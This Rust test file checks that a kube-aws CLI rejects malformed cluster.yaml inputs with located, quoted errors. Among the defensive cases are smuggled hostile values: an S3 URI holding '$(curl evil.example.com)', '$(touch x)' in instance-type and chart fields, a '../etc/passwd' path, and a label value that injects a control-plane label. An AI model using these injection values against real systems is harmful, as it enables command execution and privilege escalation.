//! A table of bad cluster.yaml inputs: each must exit 1 with a located, quoted
//! error on stderr, and never panic. The exact text is snapshotted.

use assert_cmd::Command;

use crate::common::validate_work_tree as validate;

const BASE: &str = "clusterName: demo\nregion: us-west-2\ns3URI: s3://bucket-1/kube-aws\n";

macro_rules! bad {
    ($name:ident, $yaml:expr) => {
        bad!($name, $yaml, &[]);
    };
    ($name:ident, $yaml:expr, $files:expr) => {
        #[test]
        fn $name() {
            let yaml: String = $yaml.into();
            let (code, stderr) = validate(&yaml, $files);
            assert_eq!(code, 1, "stderr: {stderr}");
            assert!(
                stderr.starts_with("error: cluster.yaml:"),
                "not located: {stderr}"
            );
            insta::assert_snapshot!(stderr);
        }
    };
}

bad!(malformed_yaml, format!("{BASE}worker: {{nodePools: [\n"));
// More node pools than the root stack's 200 CloudFormation parameters hold:
// refused at the list before anything renders (1,500 pools took 85 s and
// 1.4 GB to be refused by the root template's size before).
bad!(
    more_node_pools_than_a_cluster_holds,
    format!(
        "{BASE}worker:\n  nodePools:\n{}",
        (0..=kube_aws::config::MAX_NODE_POOLS)
            .map(|i| format!("    - {{name: p{i}, count: 1}}\n"))
            .collect::<String>()
    )
);
bad!(
    helm_binary_with_a_bad_sha256_and_url,
    format!("{BASE}helm:\n  binary: {{url: ftp://mirror/helm.tgz, sha256: F5355C79}}\n")
);
bad!(tab_indentation, format!("{BASE}controller:\n\tcount: 1\n"));
bad!(unknown_top_level_key, format!("{BASE}clustrName: x\n"));
bad!(
    unknown_nested_key_suggests,
    format!("{BASE}worker:\n  nodePool:\n    - name: a\n")
);
bad!(wrong_type_count, format!("{BASE}controller:\n  count: three\n"));
bad!(wrong_type_charts, format!("{BASE}charts: {{name: x}}\n"));
bad!(missing_required_key, "clusterName: demo\nregion: us-west-2\n");
bad!(
    duplicate_pool_names,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      count: 1\n    - name: a\n      count: 2\n")
);
bad!(
    invalid_pool_name,
    format!("{BASE}worker:\n  nodePools:\n    - name: general\n    - name: Pool_1\n")
);
bad!(
    zero_max_instance_lifetime,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      maxInstanceLifetimeDays: 0\n")
);
bad!(
    too_long_max_instance_lifetime,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      maxInstanceLifetimeDays: 30000\n")
);
bad!(invalid_cluster_name, BASE.replace("demo", "Demo.Cluster"));
bad!(
    bad_s3_uri,
    BASE.replace("s3://bucket-1/kube-aws", "https://bucket-1/kube-aws")
);
bad!(bad_region, BASE.replace("us-west-2", "uswest2"));
bad!(
    plain_http_issuer_url,
    format!("{BASE}issuerURL: http://oidc.example.com/demo\n")
);
bad!(bad_helm_version, format!("{BASE}helm:\n  version: 4\n"));
bad!(
    depends_on_cycle,
    format!("{BASE}charts:\n  - name: a\n    repo: https://c.example.com\n    dependsOn: [b]\n  - name: b\n    repo: https://c.example.com\n    dependsOn: [c]\n  - name: c\n    repo: https://c.example.com\n    dependsOn: [a]\n")
);
bad!(
    depends_on_unknown,
    format!("{BASE}charts:\n  - name: cert-manager\n    repo: https://c.example.com\n  - name: app\n    repo: https://c.example.com\n    dependsOn: [cert-manger]\n")
);
bad!(
    chart_without_source,
    format!("{BASE}charts:\n  - name: a\n    version: 1.0.0\n")
);
bad!(
    chart_two_sources,
    format!("{BASE}charts:\n  - name: a\n    repo: https://c.example.com\n    oci: oci://r.example.com/a\n")
);
bad!(
    bad_timeout,
    format!("{BASE}charts:\n  - name: a\n    repo: https://c.example.com\n    timeout: soon\n")
);
bad!(
    bad_version_constraint,
    format!("{BASE}charts:\n  - name: a\n    repo: https://c.example.com\n    version: latest-please\n")
);
bad!(
    missing_values_file,
    format!("{BASE}charts:\n  - name: a\n    repo: https://c.example.com\n    values: [values/nope.yaml]\n")
);
bad!(
    count_and_min_max,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      count: 1\n      minSize: 1\n      maxSize: 3\n")
);
bad!(
    bad_taint_effect,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      taints: [{{key: k, effect: Sometimes}}]\n")
);
bad!(
    vpc_id_without_subnets,
    format!("{BASE}network:\n  vpcId: vpc-0123456789abcdef0\n")
);
bad!(bad_kubernetes_version, format!("{BASE}kubernetesVersion: 1.3\n"));
bad!(empty_file, "# nothing here\n");
// Issue 11 finding 4b: max-pods above what the instance type can address with the VPC CNI.
bad!(
    max_pods_above_the_instance_types_limit,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      instanceType: m6i.large\n      maxPods: 110\n")
);
bad!(
    max_pods_unknown_instance_type,
    format!("{BASE}controller:\n  instanceType: g5.xlarge\n")
);
// Issue 12 class 7: labels and taints exactly as Kubernetes checks them, so
// ',' and '=' cannot add labels to the kubelet's --node-labels.
bad!(
    label_value_smuggles_a_label,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      labels: {{team: 'web,node-role.kubernetes.io/control-plane=x'}}\n")
);
bad!(
    label_key_with_whitespace,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      labels: {{'team a': web}}\n")
);
bad!(
    taint_value_with_equals,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      taints: [{{key: dedicated, value: 'a=b', effect: NoSchedule}}]\n")
);
bad!(
    node_template_tag_over_aws_limit,
    format!(
        "{BASE}worker:\n  nodePools:\n    - name: a\n      labels: {{{}.example.com/x: y}}\nplugins:\n  cluster-autoscaler: {{enabled: true}}\n",
        "a".repeat(70)
    )
);
bad!(
    s3_prefix_with_command_substitution,
    BASE.replace("s3://bucket-1/kube-aws", "s3://bucket-1/$(curl evil.example.com)")
);
bad!(
    s3_prefix_with_cloudformation_substitution,
    BASE.replace("s3://bucket-1/kube-aws", "s3://bucket-1/${AWS::AccountId}")
);
bad!(
    several_errors_at_once,
    format!("{BASE}controller:\n  count: 0\nworker:\n  nodePools:\n    - name: Bad_Name\nhelm:\n  version: 1\n")
);
// Exposure and node access (issue 14): CIDRs are located and quoted; an API
// with no way in is refused, saying why.
const PRIVATE: &str = "network:\n  privateSubnets: true\n";
bad!(
    api_cidr_invalid,
    format!("{BASE}{PRIVATE}apiEndpoint:\n  allowedCIDRs: [10.0.0.0/16, 203.0.113.300/24]\n")
);
bad!(
    api_cidr_host_bits,
    format!("{BASE}{PRIVATE}apiEndpoint:\n  allowedCIDRs:\n    - 198.51.100.7/24\n")
);
bad!(
    api_cidr_duplicate,
    format!("{BASE}{PRIVATE}apiEndpoint:\n  allowedCIDRs: [203.0.113.0/24, 203.0.113.0/24]\n")
);
bad!(
    internal_api_with_no_way_in,
    format!("{BASE}apiEndpoint:\n  internal: true\n  allowedCIDRs: [10.0.0.0/16]\nnodeAccess:\n  ssm: false\n")
);
bad!(
    public_api_with_no_way_in,
    format!("{BASE}apiEndpoint:\n  allowedCIDRs: []\nnodeAccess:\n  ssm: false\n")
);
bad!(
    narrowed_api_with_public_nodes,
    format!("{BASE}apiEndpoint:\n  allowedCIDRs: [203.0.113.0/24]\n")
);
bad!(
    ssh_cidrs_without_key,
    format!("{BASE}nodeAccess:\n  sshAllowedCIDRs: [203.0.113.0/24]\n")
);
bad!(
    ssh_cidr_invalid,
    format!("{BASE}nodeAccess:\n  keyName: ops\n  sshAllowedCIDRs: [0.0.0.0]\n")
);
bad!(
    private_subnets_with_existing_vpc,
    format!("{BASE}network:\n  vpcId: vpc-0123456789abcdef0\n  subnetIds: [subnet-0123456789abcdef0]\n  privateSubnets: true\n")
);
bad!(
    nat_gateways_without_private_subnets,
    format!("{BASE}network:\n  natGateways: single\n")
);

#[test]
fn a_bad_cidr_is_located_at_its_own_line_and_column() {
    let yaml = format!("{BASE}{PRIVATE}apiEndpoint:\n  allowedCIDRs:\n    - 203.0.113.0/24\n    - 10.0.0.0/33\n");
    let (code, stderr) = validate(&yaml, &[]);
    assert_eq!(code, 1, "{stderr}");
    // BASE and PRIVATE are five lines; the bad item is on line 9, after "    - ".
    assert_eq!(
        stderr.trim_end(),
        "error: cluster.yaml:9:7: apiEndpoint.allowedCIDRs[1]: \"10.0.0.0/33\" is not an IPv4 CIDR \
         (for example \"203.0.113.0/24\", or \"198.51.100.7/32\" for one address)"
    );
    // An internal endpoint with a way in (SSM on, the default) is fine.
    let ok = format!("{BASE}apiEndpoint:\n  internal: true\n  allowedCIDRs: [10.0.0.0/16]\n");
    let (code, stderr) = validate(&ok, &[]);
    assert_eq!(code, 0, "{stderr}");
}

#[test]
fn no_cluster_file_is_exit_1_with_hint() {
    let dir = tempfile::tempdir().unwrap();
    let out = Command::cargo_bin("kube-aws")
        .unwrap()
        .current_dir(dir.path())
        .arg("validate")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("cannot read cluster.yaml") && stderr.contains("kube-aws init"),
        "{stderr}"
    );
}
bad!(even_controller_count, format!("{BASE}controller:\n  count: 2\n"));
bad!(controller_count_above_five, format!("{BASE}controller:\n  count: 7\n"));
bad!(
    bad_backup_interval,
    format!("{BASE}etcd:\n  backup:\n    interval: hourly\n")
);
bad!(
    backup_interval_too_short,
    format!("{BASE}etcd:\n  backup:\n    interval: 1m\n    retention: {{hourlyDays: 0, dailyDays: 4000}}\n")
);
bad!(
    etcd_quota_too_small,
    format!("{BASE}etcd:\n  quotaBackendBytes: 1048576\n")
);
bad!(
    bad_pod_security_level,
    format!("{BASE}podSecurity:\n  enforce: basline\n  exemptNamespaces: [kube-system, Monitoring]\ncertificates:\n  renewBeforeDays: 400\n")
);
bad!(bad_ami_id, format!("{BASE}ami: ami-XYZ\n"));
bad!(
    one_ami_for_two_architectures,
    format!(
        "{BASE}ami: ami-0123456789abcdef0\nworker:\n  nodePools:\n    - name: arm\n      instanceType: m7g.large\n"
    )
);
bad!(
    bad_ami_per_architecture,
    format!("{BASE}ami:\n  x86_64: ami-0123456789abcdef0\n  arm64: ami-1\n")
);

/// An `oci:` reference pinned by a manifest digest is refused where it is
/// written, not silently stripped to its name.
#[test]
fn oci_manifest_digest_is_refused_with_its_position() {
    let digest = format!("sha256:{}", "a".repeat(64));
    let yaml = format!("{BASE}charts:\n  - name: a\n    oci: oci://r.example.com/charts/a@{digest}\n");
    let (code, stderr) = validate(&yaml, &[]);
    assert_eq!(code, 1, "stderr: {stderr}");
    assert!(stderr.starts_with("error: cluster.yaml:6:"), "not located: {stderr}");
    assert!(stderr.contains("charts[0].oci"), "{stderr}");
    assert!(
        stderr.contains(&format!("pins a manifest digest (\"{digest}\")")),
        "{stderr}"
    );
    assert!(stderr.contains("oci://r.example.com/charts/a:1.2.3"), "{stderr}");
}

// ---- issue 24, finding 10: a plugin bound never widens the pool's own ----
bad!(
    autoscaler_max_above_pool_max,
    format!(
        "{BASE}worker:\n  nodePools:\n    - name: general\n      minSize: 2\n      maxSize: 4\n      plugins:\n        cluster-autoscaler: {{minSize: 2, maxSize: 10}}\nplugins:\n  cluster-autoscaler: {{enabled: true}}\n"
    )
);
bad!(
    autoscaler_cluster_wide_max_above_a_fixed_pool,
    format!(
        "{BASE}worker:\n  nodePools:\n    - name: fixed\n      count: 3\nplugins:\n  cluster-autoscaler: {{enabled: true, maxSize: 6}}\n"
    )
);
bad!(
    autoscaler_min_below_pool_min,
    format!(
        "{BASE}worker:\n  nodePools:\n    - name: general\n      minSize: 2\n      maxSize: 4\n      plugins:\n        cluster-autoscaler: {{minSize: 0}}\nplugins:\n  cluster-autoscaler: {{enabled: true}}\n"
    )
);

// ---- issue 30, item 8: values that can only be data look like data ----
bad!(
    controller_instance_type_shell,
    format!("{BASE}controller:\n  instanceType: $(touch x)\n")
);
bad!(
    pool_instance_type_typo,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      count: 1\n      instanceType: m5.larg\n")
);
bad!(
    pool_instance_type_no_size,
    format!("{BASE}worker:\n  nodePools:\n    - name: a\n      count: 1\n      instanceType: m5\n")
);
bad!(
    chart_name_shell,
    format!("{BASE}charts:\n  - name: a\n    repo: https://c.example.com\n    chart: \"$(touch x)\"\n")
);
bad!(
    chart_name_path,
    format!("{BASE}charts:\n  - name: a\n    repo: https://c.example.com\n    chart: ../etc/passwd\n")
);

#[test]
fn instance_types_and_chart_names_of_every_shape_aws_and_helm_use_are_accepted() {
    for t in [
        "m5.large",
        "t3.nano",
        "c7gn.16xlarge",
        "u-6tb1.112xlarge",
        "mac1.metal",
        "c7i.metal-24xl",
        "x2iedn.32xlarge",
        "trn1n.32xlarge",
        "g4dn.xlarge",
        "hpc7g.16xlarge",
        "inf2.48xlarge",
    ] {
        let yaml = format!(
            "{BASE}worker:\n  nodePools:\n    - name: a\n      count: 1\n      instanceType: {t}\n      maxPods: 10\n"
        );
        let (code, stderr) = validate(&yaml, &[]);
        assert!(!stderr.contains("instanceType"), "{t}: {code} {stderr}");
    }
    for c in ["ingress-nginx", "kube_state_metrics", "cert-manager.v1", "Grafana"] {
        let yaml = format!("{BASE}charts:\n  - name: a\n    repo: https://c.example.com\n    chart: {c}\n");
        let (code, stderr) = validate(&yaml, &[]);
        assert!(!stderr.contains(".chart"), "{c}: {code} {stderr}");
    }
}
